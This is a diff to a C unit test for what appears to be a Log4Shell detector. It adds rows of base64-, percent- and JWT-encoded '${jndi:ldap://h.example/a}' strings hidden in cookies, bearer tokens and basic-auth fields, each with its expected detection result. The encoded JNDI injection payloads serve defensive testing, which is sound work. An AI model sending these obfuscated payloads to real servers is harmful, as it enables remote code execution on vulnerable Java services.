@@ -124,6 +124,8 @@ static void base64(void **state)
         ROW("/a/JHtqbmRp%4fmxkYXA6Ly9oLmV4YW1wbGUvYX0", EXPLOIT, .chain = "percent base64"),
         ROW("<a>" PLAIN_BASE64 "</a>", EXPLOIT, .chain = "base64"),
         ROW("X-Api-Version:" PLAIN_BASE64, EXPLOIT, .chain = "base64"),
+        ROW(PLAIN_BASE64 ":secret", EXPLOIT, .chain = "base64"), /* a user of basic authentication */
+        ROW("${base64:" PLAIN_BASE64 ":-x}", "attempt"),
         ROW("data:text/plain;base64," PLAIN_BASE64, EXPLOIT, .chain = "base64"),
         ROW("=?utf-8?B?" PLAIN_BASE64 "?=", EXPLOIT, .chain = "encoded_word"),
         ROW("=?x?b?A " PLAIN_BASE64, EXPLOIT, .chain = "base64"), /* no word, but for who reads it as one nothing is left of the value */
@@ -141,6 +143,11 @@ static void base64(void **state)
         ROW("JTI0JTdCam5kaTpsZGFwOi8vaC5leGFtcGxlL2ElN0Q=", EXPLOIT, .chain = "base64 percent"),
         ROW("SkhScWJtUnBPbXhrWVhBNkx5OW9MbVY0WVcxd2JHVXZZWDA9", "none"),
         ROW("Skh0cWJtUnBPbXhrWVhBNkx5OW9MbVY0WVcxd2JHVXZZWDA9", EXPLOIT, .chain = "base64 base64"),
+        /* of {"u":"..."}, of {"sub":"..."} in the alphabet of URLs, of <a>...</a> around the first, of a path before a blank */
+        ROW("session=eyJ1IjoiSkh0cWJtUnBPbXhrWVhBNkx5OW9MbVY0WVcxd2JHVXZZWDA9In0=; Path=/", EXPLOIT, .chain = "base64 base64"),
+        ROW("Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJKSHRxYm1ScE9teGtZWEE2THk5b0xtVjRZVzF3YkdVdllYMCJ9.", EXPLOIT, .chain = "base64 base64"),
+        ROW("PGE+ZXlKMUlqb2lTa2gwY1dKdFVuQlBiWGhyV1ZoQk5reDVPVzlNYlZZMFdWY3hkMkpIVlhaWldEQTlJbjA9PC9hPg==", EXPLOIT, .chain = "base64 base64 base64"),
+        ROW("YS9KSHRxYm1ScE9teGtZWEE2THk5b0xtVjRZVzF3YkdVdllYMCB4", EXPLOIT, .chain = "base64 base64"),
         /* of \u0024\u007bjndi:ldap://h.example/a\u007d */
         ROW("XHUwMDI0XHUwMDdiam5kaTpsZGFwOi8vaC5leGFtcGxlL2FcdTAwN2Q=", EXPLOIT, .chain = "base64 backslash"),
         /* both alphabets: ${jndi:ldap://h.example/a~~~b}; the '+' is none in a form */
